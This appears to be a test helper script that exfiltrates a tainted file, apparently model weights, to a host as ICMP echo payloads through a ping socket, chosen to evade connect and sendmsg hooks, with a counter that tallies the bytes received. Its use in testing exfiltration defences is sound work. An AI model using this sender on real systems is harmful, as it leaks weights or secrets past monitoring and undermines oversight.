#!/usr/bin/env python3
"""The weights as ICMP echo requests through a ping socket (SOCK_DGRAM,
IPPROTO_ICMP: not a raw socket, so a tainted process may make one; no
connect or sendmsg hook sees it), and the test host's counter of what
arrived.

  icmp_leak.py send SRC HOST      read SRC (tainted), send it in 1400-byte
                                  echo payloads; exit 0 when all were sent
  icmp_leak.py count OUT READY    (in the test host's netns) count the echo
                                  payload bytes received into OUT
Needs net.ipv4.ping_group_range to include the sender's group."""
import os
import socket
import struct
import sys
import time


def send(src, host):
    data = open(src, "rb").read()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    for seq, i in enumerate(range(0, len(data), 1400)):
        # type 8 (echo), code 0; the kernel fills in the id and checksum
        s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, seq & 0xffff) + data[i:i + 1400], (host, 0))
        if seq % 64 == 63:
            time.sleep(0.001)	# the counter's socket keeps up
    print("sent", len(data))


def count(out, ready):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    # SO_RCVBUFFORCE (root): past net.core.rmem_max, so a slow guest's
    # counter drops nothing while it lags
    s.setsockopt(socket.SOL_SOCKET, getattr(socket, "SO_RCVBUFFORCE", 33), 8 << 20)
    total = 0
    with open(out, "w") as f:
        f.write("0")
    open(ready, "w").close()
    while True:
        pkt = s.recv(65535)
        ihl = (pkt[0] & 0x0f) * 4
        if len(pkt) > ihl + 8 and pkt[ihl] == 8:
            total += len(pkt) - ihl - 8
            with open(out + ".tmp", "w") as f:
                f.write(str(total))
            os.replace(out + ".tmp", out)


if __name__ == "__main__":
    if sys.argv[1] == "send":
        send(sys.argv[2], sys.argv[3])
    else:
        count(sys.argv[2], sys.argv[3])
